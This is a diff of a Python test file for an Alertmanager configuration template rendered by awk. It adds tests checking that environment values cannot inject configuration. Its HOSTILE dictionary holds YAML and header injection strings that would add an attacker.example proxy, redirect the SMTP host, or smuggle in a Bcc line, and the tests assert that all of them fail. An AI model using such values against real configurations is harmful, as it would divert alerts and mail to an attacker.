@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import os
 import re
 import subprocess
 import threading
@@ -74,9 +73,22 @@ def test_documented_commission_name_is_a_recording_rule() -> None:
     assert records["orders_commission_total_usd"] == "orders_commission_usd_total"
 
 
+def _amtool_check(rendered: str) -> subprocess.CompletedProcess[str]:
+    path = ROOT / ".cache" / "alertmanager-rendered.yml"
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(rendered)
+    return subprocess.run([require_binary("amtool", "prometheus-alertmanager"), "check-config", str(path)],
+                          capture_output=True, text=True, timeout=30, check=False)  # fmt: skip
+
+
+def _awks() -> list[tuple[str, ...]]:
+    """Debian's awk (mawk) and busybox awk, the one in the Alertmanager image compose runs."""
+    return [("awk",), (require_binary("busybox", "busybox"), "awk")]
+
+
 def test_alertmanager_config_renders_and_passes_amtool() -> None:
-    """The template, rendered with nothing set and with every receiver set, passes `amtool check-config`;
-    the awk renderer compose uses gives the same text as the tests' renderer."""
+    """The template, rendered by render-env.awk with nothing set and with every receiver set, passes
+    `amtool check-config`; mawk and busybox awk render it identically."""
     template = ALERTMANAGER_TEMPLATE.read_text()
     full = {
         "ALERT_WEBHOOK_URL": "https://relay.example/alerts?token=a&b=c",
@@ -91,21 +103,59 @@ def test_alertmanager_config_renders_and_passes_amtool() -> None:
         "ALERT_EMAIL_TO": "desk@example.com",
     }
     for env in ({}, full):
-        rendered = render_env(template, env)
-        assert "${" not in rendered
-        awk = subprocess.run(
-            ["awk", "-f", str(PROMETHEUS_DIR / "render-env.awk"), str(ALERTMANAGER_TEMPLATE)],
-            capture_output=True, text=True, timeout=30, check=True,
-            env={k: v for k, v in os.environ.items() if k not in full} | env,
-        )  # fmt: skip
-        assert awk.stdout == rendered
-        path = ROOT / ".cache" / "alertmanager-rendered.yml"
-        path.parent.mkdir(exist_ok=True)
-        path.write_text(rendered)
-        done = subprocess.run([require_binary("amtool", "prometheus-alertmanager"), "check-config", str(path)],
-                              capture_output=True, text=True, timeout=30, check=False)  # fmt: skip
+        rendered = [render_env(template, env, awk) for awk in _awks()]
+        assert rendered[0] == rendered[1]
+        assert "${" not in json.dumps(yaml.safe_load(rendered[0]))
+        done = _amtool_check(rendered[0])
         assert done.returncode == 0, done.stdout + done.stderr
     assert "0123456789abcdef" not in template, "no secret is committed"
+
+
+def _keys(node: Any) -> set[str]:
+    """Every mapping key anywhere in a parsed YAML document."""
+    if isinstance(node, dict):
+        return set(node) | {k for v in node.values() for k in _keys(v)}
+    if isinstance(node, list):
+        return {k for v in node for k in _keys(v)}
+    return set()
+
+
+HOSTILE = {
+    # A quote and a newline, to end the URL string and add a proxy of the attacker's.
+    "ALERT_WEBHOOK_URL": 'https://relay.example/a"\n        proxy_url: "http://attacker.example:3128',
+    "SLACK_CHANNEL": '#desk"\n  smtp_smarthost: "attacker.example:25',
+    # A legitimate password with every character YAML double quotes treat specially.
+    "SMTP_PASSWORD": 'p"a\\ss\\"w\to\x01rd\\n${X}',
+    "SMTP_USERNAME": "am\r\nBcc: attacker@example.com",
+}
+
+
+def test_environment_values_cannot_inject_alertmanager_configuration() -> None:
+    """Hostile receiver values come out as exactly the strings given, in their own fields, with both awks:
+    no injected key, no changed field; a legitimate password full of quotes and backslashes passes amtool."""
+    template = ALERTMANAGER_TEMPLATE.read_text()
+    for awk in _awks():
+        config = yaml.safe_load(render_env(template, HOSTILE, awk))
+        assert "proxy_url" not in _keys(config)
+        assert config["global"]["smtp_smarthost"] == "127.0.0.1:9"
+        assert config["global"]["smtp_auth_password"] == HOSTILE["SMTP_PASSWORD"]
+        assert config["global"]["smtp_auth_username"] == HOSTILE["SMTP_USERNAME"]
+        webhooks = [w["url"] for r in config["receivers"] for w in r.get("webhook_configs", [])]
+        assert webhooks
+        assert set(webhooks) == {HOSTILE["ALERT_WEBHOOK_URL"]}
+        channels = {s["channel"] for r in config["receivers"] for s in r.get("slack_configs", [])}
+        assert channels == {HOSTILE["SLACK_CHANNEL"]}
+    password_only = render_env(template, {"SMTP_PASSWORD": HOSTILE["SMTP_PASSWORD"]})
+    done = _amtool_check(password_only)
+    assert done.returncode == 0, done.stdout + done.stderr
+
+
+def test_every_placeholder_is_a_whole_double_quoted_string() -> None:
+    """render-env.awk escapes for double-quoted YAML only, and substitutes only quoted placeholders."""
+    lines = [line for line in ALERTMANAGER_TEMPLATE.read_text().splitlines() if not line.lstrip().startswith("#")]
+    placeholders = re.findall(r".?\$\{[^}]*\}.?", "\n".join(lines))
+    assert placeholders
+    assert all(p.startswith('"') and p.endswith('"') for p in placeholders), placeholders
 
 
 def test_unset_receivers_stay_on_this_machine() -> None:
